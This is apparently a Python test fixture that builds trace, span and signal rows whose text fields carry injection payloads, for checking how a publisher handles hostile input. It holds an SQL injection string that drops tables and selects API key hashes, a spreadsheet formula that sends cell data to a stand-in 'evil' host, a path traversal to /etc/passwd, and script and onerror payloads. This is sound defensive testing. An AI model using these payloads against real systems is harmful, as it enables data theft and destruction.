"""A store whose every text that a trace, span or signal can bring tries to be markup, SQL, a formula or a path."""

from typing import Any

from loop_data import HOSTILE, NOW

from store.columns import FACT_COLUMNS

SQL = "' OR 1=1; DROP TABLE traces; -- $user \" ) UNION SELECT secret_hash FROM api_keys %"
FORMULA = "=HYPERLINK(\"http://evil/?\"&A1)"  # fmt: skip
PATH = "../../../../etc/passwd"
SCRIPT = f"<script>document.title='owned'</script>{HOSTILE} javascript:alert(1) {SQL}"

# Ids keep a plain beginning, so that rows belong together; the rest of every text is hostile.
TRACES = 3
_WORDS = {
    ("spans", "kind"): "tool", ("signals", "kind"): "comment", ("signals", "annotator_kind"): "user",
    ("trace_records", "status"): "error", ("spans", "status"): "error",
}  # fmt: skip
_JSON = {"metadata", "attributes"}


def _row(table: str, number: int) -> dict[str, Any]:
    row: dict[str, Any] = {}
    for name, kind in FACT_COLUMNS[table].items():
        if (table, name) in _WORDS:
            row[name] = _WORDS[table, name]
        elif name == "links":
            row[name] = None
        elif name in _JSON:
            row[name] = '{"note": "<img src=x onerror=alert(1)> ![i](http://evil/i.png)"}'
        elif kind == "VARCHAR":
            row[name] = f"{name} {SCRIPT}"
        elif kind == "TIMESTAMPTZ":
            row[name] = NOW
        elif kind in ("BIGINT", "INTEGER"):
            row[name] = 1
        elif kind == "BOOLEAN":
            row[name] = True
        else:
            row[name] = 0.5
    row["trace_id"] = trace_id(number)
    if table == "spans":
        row["parent_span_id"] = None
    if table == "signals":
        row |= {"signal_id": f"signal {number} {SCRIPT}", "span_id": f"span_id {SCRIPT}"}
    return row


def trace_id(number: int) -> str:
    """The id of one of the traces."""
    return f"trace {number} {SCRIPT}"


def rows() -> dict[str, list[dict[str, Any]]]:
    """Traces, spans and signals for `publishing.publisher`."""
    tables = {"traces": "trace_records", "spans": "spans", "signals": "signals"}
    return {name: [_row(table, number) for number in range(TRACES)] for name, table in tables.items()}
